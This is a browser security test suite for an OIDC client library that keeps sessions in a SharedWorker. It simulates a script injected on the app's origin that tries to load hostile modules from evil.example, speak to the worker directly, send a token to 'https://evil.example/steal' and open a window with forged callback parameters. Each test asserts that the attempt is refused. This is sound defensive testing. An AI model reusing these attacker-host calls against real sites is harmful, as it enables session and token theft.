// The SharedWorker as a trust boundary (issue 25), in Debian's chromium
// against oidc-provider: what one injected script on the app's origin can
// do to the tabs that open after it. An injected page that names a hostile
// module (another origin, a blob: URL it made, a same-origin path that is
// not the module) or speaks the worker's port protocol directly cannot get
// a later tab's session into that module: the later tab signs in and
// works, in the genuine module, and its session is in that worker's
// memory alone. The callback page takes the code out of the address bar
// first thing; under Trusted Types the worker's script URL is made by
// mezzo's policy, and where it cannot be, the fallback to the page is
// reported, and can be forbidden. (The DPoP key that cannot be planted is
// dpop.test.mjs's; client.fetch's origins and the window-name marker are
// the node suites'.)
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { startDemoServer } from '../../dev/demo-server.mjs';
import { startIdp } from '../../dev/idp/harness.mjs';
import { launchBrowser, recordCspViolations, cspViolations, watchErrors, signIn, workerSessions, searchMemories, heapSnapshot, CHROMIUM } from './browser.mjs';

let demo; let fresh; let idp; let b;
const errors = [];

before(async () => {
  assert.ok(existsSync(CHROMIUM), `chromium missing at ${CHROMIUM}: run make test`);
  [demo, fresh] = await Promise.all([startDemoServer(), startDemoServer()]); // two origins: two signed-out workers
  idp = await startIdp({ accessTokenTtl: 600, redirectUris: [demo.redirectUri, fresh.redirectUri, fresh.silentRedirectUri] });
  demo.setConfig({ issuer: idp.issuer, clientId: idp.clientId, redirectUri: demo.redirectUri });
  // fresh: silent and popup sign-in return to its frameable return page.
  fresh.setConfig({ issuer: idp.issuer, clientId: idp.clientId, redirectUri: fresh.redirectUri, silentRedirectUri: fresh.silentRedirectUri });
  b = await launchBrowser();
  await recordCspViolations(b.context);
  watchErrors(b.context, demo.origin, errors);
});

after(async () => {
  await b?.close();
  await idp?.stop();
  await Promise.all([demo?.close(), fresh?.close()]);
});

/** open opens the demo in a new tab and waits until it has started. */
async function open() {
  const page = await b.context.newPage();
  await page.goto(`${demo.origin}/`);
  await page.waitForSelector('#status:is([data-state="signed-in"], [data-state="signed-out"])');
  return page;
}

test('an injected page cannot choose the module that later tabs\' sessions run in', async () => {
  const injected = await open();
  // What the injected script tries, in the app's own origin, with the
  // app's own options: a client whose module is another, each kept alive.
  const attempts = await injected.evaluate(async () => {
    const config = await (await fetch('/config.json')).json();
    const blob = URL.createObjectURL(new Blob([new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])], { type: 'application/wasm' }));
    window.kept = [];
    const attempt = async (wasmUrl) => {
      try {
        const c = await mezzo.createClient({ ...config, wasmUrl });
        window.kept.push(c);
        return { created: c.runtime, ready: await c.ready.then(() => 'ready', (e) => e.code) };
      } catch (e) {
        return { refused: e.code };
      }
    };
    return {
      crossOrigin: await attempt('https://evil.example/mezzo.wasm'),
      blob: await attempt(blob),
      data: await attempt('data:application/wasm;base64,AGFzbQEAAAA='),
      sameOriginPath: await attempt(`${location.origin}/config.json`),
    };
  });
  assert.deepEqual(attempts, {
    crossOrigin: { refused: 'invalid_config' },
    blob: { refused: 'invalid_config' },
    data: { refused: 'invalid_config' },
    // Another path of the origin gets a worker of its own, which fails to
    // load it, and serves only this page.
    sameOriginPath: { created: 'shared-worker', ready: 'load_failed' },
  });

  // Speaking the port protocol directly, to the app's own worker (its
  // script, its name) and to one named for another module.
  const direct = await injected.evaluate(async () => {
    const version = /^\/\/ mezzo (\S+)\. Bundled/.exec(await (await fetch('/dist/mezzo-worker.js')).text())[1];
    const genuine = new URL('/dist/mezzo.wasm', location.href).href;
    const ask = (name, msg) => new Promise((resolve) => {
      const port = new SharedWorker('/dist/mezzo-worker.js', { name, extendedLifetime: true }).port;
      const t = setTimeout(() => resolve('no reply'), 3000);
      port.onmessage = (e) => { clearTimeout(t); resolve(e.data.kind === 'error' ? e.data.error.code : e.data.kind); };
      port.start();
      port.postMessage({ protocol: 'mezzo-rpc/1', version, kind: 'call', id: 1, ...msg });
    });
    return {
      otherModuleToGenuineWorker: await ask(`mezzo@${version} ${genuine}`, { method: 'hello', params: { wasmUrl: `${location.origin}/config.json` } }),
      attachWithoutHello: await ask(`mezzo@${version} ${genuine}`, { method: 'attach', params: { options: {} } }),
      workerNamedForABlob: await ask(`mezzo@${version} blob:${location.origin}/x`, { method: 'hello', params: { wasmUrl: `blob:${location.origin}/x` } }),
      workerNamedForAnotherOrigin: await ask(`mezzo@${version} https://evil.example/m.wasm`, { method: 'hello', params: { wasmUrl: 'https://evil.example/m.wasm' } }),
      workerWithoutAName: await ask('', { method: 'hello', params: { wasmUrl: genuine } }),
    };
  });
  assert.deepEqual(direct, {
    otherModuleToGenuineWorker: 'invalid_config',
    attachWithoutHello: 'invalid_argument',
    workerNamedForABlob: 'invalid_config',
    workerNamedForAnotherOrigin: 'invalid_config',
    workerWithoutAName: 'invalid_config',
  });

  // A legitimate tab opened after all that, the injected one still open:
  // it signs in and works, in the genuine module.
  const page = await open();
  assert.equal(await page.getAttribute('#status', 'data-runtime'), 'shared-worker');
  const cdp = await b.browser.newBrowserCDPSession();
  const genuineName = await page.evaluate(async () => {
    const version = /^\/\/ mezzo (\S+)\. Bundled/.exec(await (await fetch('/dist/mezzo-worker.js')).text())[1];
    return `mezzo@${version} ${new URL('/dist/mezzo.wasm', location.href).href}`;
  });
  const workers = await workerSessions(cdp, demo.origin);
  const genuine = workers.find((w) => w.name === genuineName);
  assert.ok(genuine, `the genuine worker runs: ${workers.map((w) => JSON.stringify(w.name)).join(', ')}`);
  assert.ok(workers.some((w) => w.name.endsWith('/config.json')), 'the injected page\'s worker runs beside it');
  for (const w of workers) await w.detach();
  await signIn(page, demo.origin, idp);
  // The session's current access token, renewed by the worker it lives in.
  const token = await page.evaluate(async () => {
    const c = await mezzo.createClient(await (await fetch('/config.json')).json());
    try { return await c.getToken({ forceRefresh: true }); } finally { c.close(); }
  });
  assert.ok(token.length > 20, 'the later tab gets tokens');
  const held = {};
  for (const w of await workerSessions(cdp, demo.origin)) {
    held[w.name === genuineName ? 'genuine' : w.name.replace(/^mezzo@\S+ /, '')] = (await searchMemories(w.send, token)).found;
    await w.detach();
  }
  const { genuine: inGenuine, ...others } = held;
  assert.equal(inGenuine, true, 'the genuine worker holds the session (its Go memory, the renewed access token)');
  assert.ok(`${demo.origin}/config.json` in others, `the injected page's worker was searched: ${Object.keys(others).join(', ')}`);
  assert.deepEqual(Object.entries(others).filter(([, found]) => found), [], 'no other worker holds it: the session lives in the genuine module alone');
  await cdp.detach();
  await Promise.all([page.close(), injected.close()]);
});

test('no CSP violation and no uncaught error', async () => {
  for (const p of b.context.pages()) {
    if (p.url().startsWith(demo.origin)) assert.deepEqual(await cspViolations(p), [], p.url());
  }
  assert.deepEqual(errors, []);
});

test('the callback page takes the code and state out of the address bar before mezzo starts anything', async () => {
  const page = await b.context.newPage();
  // Where the page is when mezzo starts its worker (on every document).
  await page.addInitScript(() => {
    const Real = window.SharedWorker;
    window.urlsAtWorkerStart = [];
    window.SharedWorker = function SharedWorker(...args) {
      window.urlsAtWorkerStart.push(location.href);
      return new Real(...args);
    };
  });
  try {
    await signIn(page, fresh.origin, idp);
    const seen = await page.evaluate(() => window.urlsAtWorkerStart);
    assert.ok(seen.length > 0, 'the callback page started its worker');
    for (const u of seen) assert.equal(new URL(u).search, '', `no response left in ${u} when the worker started`);
    assert.equal(await page.evaluate(() => document.querySelector('meta[name="referrer"]')?.content), 'no-referrer', 'and nothing it loads is told the URL');
  } finally {
    await page.close();
  }
});

/**
 * placement starts a client of the demo's options (and extra) on a page of
 * server and reports where its runtime runs and why, with the
 * mezzo:runtime-fallback events the page saw, or the error createClient
 * rejected with.
 */
async function placement(server, extra = {}) {
  const page = await b.context.newPage();
  await page.addInitScript(() => {
    window.fallbackEvents = [];
    addEventListener('mezzo:runtime-fallback', (e) => window.fallbackEvents.push(e.detail));
  });
  try {
    await page.goto(`${server.origin}/`);
    await page.waitForSelector('#status[data-state]');
    return await page.evaluate(async (more) => {
      const config = await (await fetch('/config.json')).json();
      window.fallbackEvents.length = 0; // the demo's own client's are not this one's
      try {
        const c = await mezzo.createClient({ ...config, ...more });
        const out = { runtime: c.runtime, reason: c.runtimeReason, fallbacks: c.runtimeFallbacks.map((f) => `${f.host}: ${f.code}`), events: window.fallbackEvents.map((d) => d.runtime) };
        c.close();
        return out;
      } catch (e) {
        return { refused: e.code, description: e.description };
      }
    }, extra);
  } finally {
    await page.close();
  }
}

test('under Trusted Types (require-trusted-types-for \'script\'), a site that allows mezzo\'s policy gets its SharedWorker; one that does not gets a reported fallback, which workerOnly forbids', async () => {
  const allowed = await startDemoServer({ trustedTypes: 'mezzo' });
  const refused = await startDemoServer({ trustedTypes: "'none'" });
  try {
    for (const s of [allowed, refused]) s.setConfig({ issuer: idp.issuer, clientId: idp.clientId, redirectUri: s.redirectUri });
    assert.deepEqual(await placement(allowed), { runtime: 'shared-worker', reason: 'preferred', fallbacks: [], events: [] }, 'mezzo\'s policy makes the worker\'s script URL');
    assert.deepEqual(await placement(refused), {
      runtime: 'page', reason: 'fallback',
      fallbacks: ['shared-worker: runtime_unavailable', 'worker: runtime_unavailable'],
      events: ['page'],
    }, 'no policy allowed: the worker hosts cannot start, and the page says so');
    const forbidden = await placement(refused, { workerOnly: true });
    assert.equal(forbidden.refused, 'runtime_unavailable');
    assert.match(forbidden.description, /workerOnly forbids the page host.*shared-worker: .*worker: /);
  } finally {
    await Promise.all([allowed.close(), refused.close()]);
  }
});

test('a silent and a popup sign-in keep their transaction in the runtime: its verifier is never in the page\'s heap, even while the attempt is pending', async () => {
  const { authorization_endpoint: authorize, token_endpoint: tokenEndpoint } = await idp.discovery();
  const page = await b.context.newPage();
  await page.goto(`${fresh.origin}/`); // signed in at the provider (the test before)
  await page.waitForSelector('#status[data-state]');
  const cdp = await b.browser.newBrowserCDPSession();
  const [worker] = await workerSessions(cdp, fresh.origin);
  await worker.send('Network.enable');
  const session = await b.context.newCDPSession(page);
  const verifiers = () => worker.events
    .filter((e) => e.method === 'Network.requestWillBeSent' && e.params.request.url === tokenEndpoint)
    .map((e) => new URLSearchParams(e.params.request.postData ?? '')).filter((f) => f.get('grant_type') === 'authorization_code')
    .map((f) => f.get('code_verifier'));
  // Each attempt's authorization request is held until the page's heap is
  // taken: the moment a page holding the transaction would hold it.
  let held = null;
  await b.context.route((u) => u.href.startsWith(authorize), (route) => { held = route; });
  try {
    const heaps = {};
    for (const kind of ['silent', 'popup']) {
      held = null;
      const before = verifiers().length;
      // A client whose attempts may wait for the heap snapshot.
      await page.evaluate(async () => {
        window.attempt = null;
        const config = await (await fetch('/config.json')).json();
        window.readyClient = await mezzo.createClient({ ...config, silentTimeoutSeconds: 60, popupTimeoutSeconds: 60 });
      });
      if (kind === 'silent') {
        await page.evaluate(() => { window.attempt = window.readyClient.loginSilently().then(() => 'ok', (e) => e.code); });
      } else {
        // A popup opens only from a click (the user's gesture): a button that starts it.
        await page.evaluate(() => {
          const button = document.createElement('button');
          button.id = 'test-popup';
          button.textContent = 'popup';
          document.body.append(button);
          button.addEventListener('click', () => { window.attempt = window.readyClient.loginWithPopup().then(() => 'ok', (e) => e.code); });
        });
        await page.click('#test-popup');
      }
      const t0 = Date.now();
      while (!held && Date.now() - t0 < 10000) await new Promise((r) => { setTimeout(r, 50); });
      assert.ok(held, `the ${kind} attempt's authorization request was sent`);
      const state = new URL(held.request().url()).searchParams.get('state');
      heaps[kind] = { text: await heapSnapshot(session), state };
      await held.continue();
      assert.equal(await page.evaluate(() => window.attempt), 'ok', `the ${kind} sign-in completed`);
      await page.evaluate(() => { window.readyClient.close(); document.querySelector('#test-popup')?.remove(); });
      const t1 = Date.now();
      while (verifiers().length === before && Date.now() - t1 < 10000) await new Promise((r) => { setTimeout(r, 50); });
      heaps[kind].verifier = verifiers().at(-1);
    }
    for (const [kind, { text, state, verifier }] of Object.entries(heaps)) {
      assert.match(verifier ?? '', /^[A-Za-z0-9_-]{43}$/, `the ${kind} code exchange sent its verifier`);
      assert.ok(text.includes(state), `the ${kind} heap was taken while the page waited for that attempt (its state is there)`);
      assert.equal(text.includes(verifier), false, `the ${kind} attempt's verifier is in the page's heap`);
    }
  } finally {
    await b.context.unroute((u) => u.href.startsWith(authorize));
    await worker.detach();
    await session.detach();
    await cdp.detach();
    await page.close();
  }
});

test('client.fetch sends no token to an origin the site did not list, nor over plain http off loopback', async () => {
  const page = await open(); // demo: signed in by the first test
  const sent = [];
  page.on('request', (r) => { if (!r.url().startsWith(demo.origin) && !r.url().startsWith(idp.issuer)) sent.push(r.url()); });
  try {
    const codes = await page.evaluate(async () => {
      const c = await mezzo.createClient(await (await fetch('/config.json')).json());
      try {
        const out = [];
        for (const url of ['https://evil.example/steal', 'http://api.example.test/x']) out.push(await c.fetch(url).then((r) => `sent ${r.status}`, (e) => e.code));
        return out;
      } finally { c.close(); }
    });
    assert.deepEqual(codes, ['origin_not_allowed', 'origin_not_allowed']);
    assert.deepEqual(sent, [], 'no request left for them');
  } finally {
    await page.close();
  }
});

test('a page that names a window with mezzo\'s marker cannot stall the app opened in it', async () => {
  const page = await open();
  try {
    await page.evaluate(() => {
      const button = document.createElement('button');
      button.id = 'opener';
      document.body.append(button);
      button.addEventListener('click', () => { window.open('/?code=forged&state=forged', 'mezzo-embed:0123456789abcdef0123456789abcdef'); });
    });
    const [opened] = await Promise.all([b.context.waitForEvent('page'), page.click('#opener')]);
    const t0 = Date.now();
    // No attempt of the opener's confirms it: the app goes on as an ordinary page.
    await opened.waitForSelector('#status[data-state]', { timeout: 5000 });
    assert.ok(Date.now() - t0 < 5000);
    await opened.close();
  } finally {
    await page.close();
  }
});
